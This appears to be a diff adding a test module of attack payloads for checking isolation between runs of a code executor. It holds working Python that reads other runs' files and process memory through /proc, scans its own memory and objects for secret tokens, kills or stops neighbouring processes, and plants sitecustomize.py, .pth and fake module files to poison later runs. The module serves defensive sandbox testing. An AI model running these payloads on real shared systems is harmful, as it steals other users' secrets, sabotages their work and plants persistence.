@@ -1,0 +1,165 @@
+"""Attacks on other runs of the same executor: those beside it, those before it, those to come."""
+
+from __future__ import annotations
+
+from typing import Final
+
+from attack import Attack
+from victim_runs import EarlierRuns, LaterRun, Neighbour
+
+_OWN_INTERPRETER: Final = "each run has an interpreter of its own"
+_NO_PTRACE: Final = "Yama, or a container without CAP_SYS_PTRACE, keeps processes from each other's memory"
+
+# /proc may be out of reach, so memory is read through a pipe: writing to it what can't be read fails, and no more.
+SEARCH_OWN_MEMORY: Final = """
+wanted = re.compile(rb"secret-[0-9a-f]{32}")
+found, been = set(), set()
+page, chunk = 4096, 65536
+reader, writer = os.pipe()
+
+def read(address, size):
+    written = libc.write(writer, ctypes.c_void_p(address), number(size))
+    return os.read(reader, written) if written > 0 else b""
+
+def search(address):
+    data = read(address, chunk)
+    if len(data) < chunk:
+        data = b"".join(read(address + i, page) or b"-" for i in range(0, chunk, page))
+    found.update(wanted.findall(data + read(address + chunk, 64)))
+    return len(data) >= page
+
+def search_from(address, step):
+    here, gaps = address - address % chunk, 0
+    while gaps < 40 and here not in been:
+        been.add(here)
+        gaps = 0 if search(here) else gaps + 1
+        here += step
+
+libc.sbrk.restype = ctypes.c_void_p
+inside = [id(sys.modules), id({}), id("a" * 600), ctypes.addressof(ctypes.create_string_buffer(300_000))]
+inside += [ctypes.cast(f, ctypes.c_void_p).value for f in (libc.getpid, ctypes.pythonapi.PyList_New)]
+for address in [libc.sbrk(number(0)), *inside]:
+    search_from(address, chunk)
+    search_from(address - chunk, -chunk)
+print(found)
+"""
+_SEARCH_MAPPED: Final = """
+wanted = re.compile(rb"secret-[0-9a-f]{32}")
+found = set()
+for line in open("/proc/self/maps"):
+    start, end = (int(number, 16) for number in line.split()[0].split("-"))
+    if line.split()[1].startswith("r") and "[v" not in line:
+        with open("/proc/self/mem", "rb", buffering=0) as memory:
+            try:
+                memory.seek(start)
+                found.update(wanted.findall(memory.read(end - start)))
+            except OSError:
+                pass
+print(found)
+"""
+SEARCH_OBJECTS: Final = """
+import gc
+wanted = re.compile("secret-[0-9a-f]{32}")
+found, frame = set(), sys._getframe()
+while frame:
+    found.update(wanted.findall(repr(frame.f_locals) + repr(frame.f_globals)))
+    frame = frame.f_back
+for thing in gc.get_objects():
+    try:
+        found.update(wanted.findall(repr(thing)))
+    except BaseException:
+        pass
+    for inner in gc.get_referents(thing):
+        if isinstance(inner, (str, bytes, bytearray)):
+            found.update(wanted.findall(str(inner)))
+print(found)
+"""
+_SEARCH_NEIGHBOUR: Final = """
+for line in open(f"/proc/{TARGET['pid']}/maps"):
+    if "rw" in line:
+        start, end = (int(number, 16) for number in line.split()[0].split("-"))
+        with open(f"/proc/{TARGET['pid']}/mem", "rb", buffering=0) as memory:
+            memory.seek(start)
+            print(set(re.findall(rb"secret-[0-9a-f]{32}", memory.read(end - start))))
+"""
+_WRITE_OUTPUT: Final = "open(f\"/proc/{TARGET['pid']}/fd/1\", 'w').write('mine')"
+_ON_A_NEIGHBOUR: Final = {
+    "read-files": "print(open(TARGET['path']).read())",
+    "list-files": "print(os.listdir(TARGET['folder']))\nopen(TARGET['folder'] + '/foreign', 'w').close()",
+    "change-files": "open(TARGET['path'], 'w').write('mine')",
+    "read-files-by-working-directory": "print(open(f\"/proc/{TARGET['pid']}/cwd/work/{TARGET['victim']}.txt\").read())",
+    "read-files-through-dots": "here = os.getcwd().split('/')\n"
+    "print(open('../' + TARGET['path'].split('/')[-3] + '/' + '/'.join(TARGET['path'].split('/')[-2:])).read())",
+    "read-files-of-all": "import glob\nfor path in glob.glob('../*/work/*.txt') + glob.glob('/tmp/*/*/work/*.txt'):\n"
+    "    each(lambda: open(path).read())",
+    "kill": "os.kill(TARGET['pid'], 9)",
+    "kill-near-numbers": "for pid in range(os.getpid() - 30, os.getpid()):\n"
+    "    if pid == TARGET['pid']:\n        os.kill(pid, 9)",
+    "stop": "os.kill(TARGET['pid'], 19)",
+    "kill-its-group": "os.killpg(TARGET['pid'], 9)",
+    "limit": "import resource\nresource.prlimit(TARGET['pid'], resource.RLIMIT_CPU, (0, 0))\n"
+    "resource.prlimit(TARGET['pid'], resource.RLIMIT_FSIZE, (0, 0))\nos.kill(TARGET['pid'], 0)",
+    "write-its-output": _WRITE_OUTPUT,
+    "search-its-memory": _SEARCH_NEIGHBOUR,
+    "search-own-memory": SEARCH_OWN_MEMORY,
+    "search-own-objects": SEARCH_OBJECTS,
+}
+_NEVER: Final = {
+    "search-own-memory": _OWN_INTERPRETER,
+    "search-own-objects": _OWN_INTERPRETER,
+    "limit": "a limit on its time or files comes too late to be seen",
+}
+_SELDOM: Final = {
+    "search-its-memory": _NO_PTRACE,
+    "write-its-output": _NO_PTRACE,
+    "read-files-by-working-directory": _NO_PTRACE,
+    "kill-near-numbers": "its number may be far away",
+}
+_SEARCH_FILES: Final = """
+import glob
+for folder in (".", "..", os.environ["HOME"], os.environ.get("TMPDIR", ".")):
+    for path in glob.glob(folder + "/answer.txt") + glob.glob(folder + "/*/answer.txt"):
+        print(open(path).read())
+"""
+
+ALL: Final = (
+    *(
+        Attack(f"neighbour-{name}", code, Neighbour, _NEVER.get(name, ""), _SELDOM.get(name, ""), timeout_s=10)
+        for name, code in _ON_A_NEIGHBOUR.items()
+    ),
+    *(
+        Attack(f"earlier-runs-{name}", code, EarlierRuns, never_on_plain=reason, timeout_s=10)
+        for name, code, reason in (
+            ("search-memory", SEARCH_OWN_MEMORY, _OWN_INTERPRETER),
+            ("search-mapped-memory", _SEARCH_MAPPED, _OWN_INTERPRETER),
+            ("search-objects", SEARCH_OBJECTS, _OWN_INTERPRETER),
+            ("search-files", _SEARCH_FILES, "it deletes the files of a run with it"),
+        )
+    ),
+    Attack(
+        "poison-later-runs",
+        """
+import builtins, random, warnings
+import numpy, sympy
+poison = TARGET["name"]
+os.environ["POISON"] = poison
+sys.path.append(poison)
+sys.argv.append(poison)
+sys.modules["poison"] = poison
+warnings.filterwarnings("ignore", poison)
+numpy.set_printoptions(nanstr=poison)
+for place in (builtins, json, os, random, sys, warnings, numpy, sympy, sympy.Symbol, sympy.core.add):
+    place.poison = poison
+sympy.Symbol.__repr__ = lambda self: poison
+json.dumps = lambda *args: poison
+for name in ("usercustomize.py", "sitecustomize.py", ".pythonrc", poison + ".pth", "sympy.py", "numpy.py", poison):
+    for folder in (".", os.environ["HOME"], os.environ["HOME"] + "/.local/lib/python3/site-packages"):
+        os.makedirs(folder, exist_ok=True)
+        with open(os.path.join(folder, name), "w") as file:
+            file.write(f"print({poison!r})")
+builtins.print = lambda *args: os.write(1, poison.encode())
+""",
+        LaterRun,
+        never_on_plain=_OWN_INTERPRETER,
+    ),
+)
